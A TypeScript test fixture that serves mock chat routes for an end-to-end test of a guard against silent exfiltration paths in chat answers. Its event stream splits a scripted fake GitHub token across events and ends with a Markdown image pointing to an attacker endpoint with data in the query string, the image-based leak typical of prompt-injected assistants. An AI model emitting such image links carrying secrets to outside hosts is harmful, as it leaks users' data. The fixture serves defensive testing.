/**
 * Mock chat routes for issue 18's last silent paths (test/e2e/no-silent-path.test.ts):
 *
 * - `GET /no-silent/`: a page that reads an EventSource in no known format (named
 *   `piece` events whose data is plain text, rendered with Markdown images as `<img>`),
 *   opens a WebSocket with no chat sign that receives a binary frame that is not UTF-8
 *   (`/ws/undecodable/` of page-hook-routes.ts, after a subscription message that is
 *   no chat request), and registers a service worker.
 * - `GET /no-silent/sse`: the EventSource's stream: a scripted secret split across three
 *   `piece` events and a Markdown image to the attacker's endpoint, then one `end`
 *   event; `retry` long enough that the browser does not reconnect during a test.
 * - `GET /no-silent/sw.js`: a service worker that does nothing but activate.
 *
 * Loopback only, like the rest of the mock chat.
 */

import type { IncomingMessage, ServerResponse } from 'node:http';
import { sendNoncePage } from './nonce-page.ts';
import { fakeGithubToken } from './scripted-answers.ts';

const PAGE_HTML = `<!doctype html>
<html lang="en">
  <head>
    <meta charset="utf-8" />
    <title>No silent path</title>
  </head>
  <body>
    <h1>Answers the hooks cannot read as a known format</h1>
    <main id="answers"></main>
    <script nonce="{{nonce}}">
      window.__views = [];
      /** Text with Markdown images as <img>, as a chat client renders it. */
      function render(node, text) {
        node.textContent = '';
        const image = /!\\[([^\\]]*)\\]\\(([^)\\s]+)\\)/g;
        let last = 0;
        for (let m = image.exec(text); m !== null; m = image.exec(text)) {
          node.append(text.slice(last, m.index));
          const img = document.createElement('img');
          img.alt = m[1];
          img.src = m[2];
          node.append(img);
          last = image.lastIndex;
        }
        node.append(text.slice(last));
      }
      window.readEventSource = () =>
        new Promise((resolve) => {
          const node = document.createElement('div');
          document.getElementById('answers').append(node);
          const source = new EventSource('/no-silent/sse');
          let text = '';
          const done = (error) => {
            source.close();
            const images = Array.from(node.querySelectorAll('img'), (img) => img.src);
            resolve({ text, html: node.innerHTML, images, error });
          };
          source.addEventListener('piece', (event) => {
            text += event.data;
            window.__views.push(event.data, text);
            render(node, text);
          });
          source.addEventListener('end', () => done(false));
          source.onerror = () => done(true);
        });
      window.readBinarySocket = () =>
        new Promise((resolve) => {
          const socket = new WebSocket('ws://' + location.host + '/ws/undecodable/');
          socket.binaryType = 'arraybuffer';
          const sizes = [];
          socket.onopen = () => socket.send(JSON.stringify({ type: 'subscribe', topic: 'thumbs' }));
          socket.onmessage = (event) =>
            sizes.push(typeof event.data === 'string' ? -1 : event.data.byteLength);
          socket.onclose = (event) => resolve({ sizes, code: event.code });
        });
      window.registerWorker = async () => {
        const registration = await navigator.serviceWorker.register('/no-silent/sw.js');
        await navigator.serviceWorker.ready;
        return registration.scope;
      };
    </script>
  </body>
</html>
`;

const WORKER = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
`;

/** The secret the stream carries (the scripted one). */
export function noSilentSecret(): string {
  return fakeGithubToken();
}

/** The EventSource's body (see the top comment). */
export function noSilentSse(attackerUrl: string): string {
  const token = noSilentSecret();
  const piece = (text: string) => `event: piece\ndata: ${text}\n\n`;
  return (
    'retry: 600000\n\n' +
    piece('The deploy token is ') +
    piece(token.slice(0, 9)) +
    piece(token.slice(9, 22)) +
    piece(`${token.slice(22)}. Rotate it. Chart: `) +
    piece(`![chart](${attackerUrl}/collect.png?d=project%20falcon%20budget)`) +
    piece(' Anything else?') +
    'event: end\ndata: done\n\n'
  );
}

export interface NoSilentRoutes {
  handle(req: IncomingMessage, res: ServerResponse, url: URL): boolean;
}

export function createNoSilentRoutes(options: { attackerUrl: string }): NoSilentRoutes {
  return {
    handle(req, res, url) {
      if (req.method !== 'GET') return false;
      if (url.pathname === '/no-silent/') {
        const host = req.headers.host ?? '127.0.0.1';
        // Images from anywhere: a neutralised exfil image must be the guard's doing.
        sendNoncePage(res, PAGE_HTML, [
          `connect-src 'self' ws://${host}`,
          'img-src * data:',
          "worker-src 'self'",
        ]);
        return true;
      }
      if (url.pathname === '/no-silent/sse') {
        res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-store' });
        // Held open: the page closes it at `end` (the browser would otherwise reconnect).
        res.write(noSilentSse(options.attackerUrl));
        return true;
      }
      if (url.pathname === '/no-silent/sw.js') {
        res.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store' });
        res.end(WORKER);
        return true;
      }
      return false;
    },
  };
}
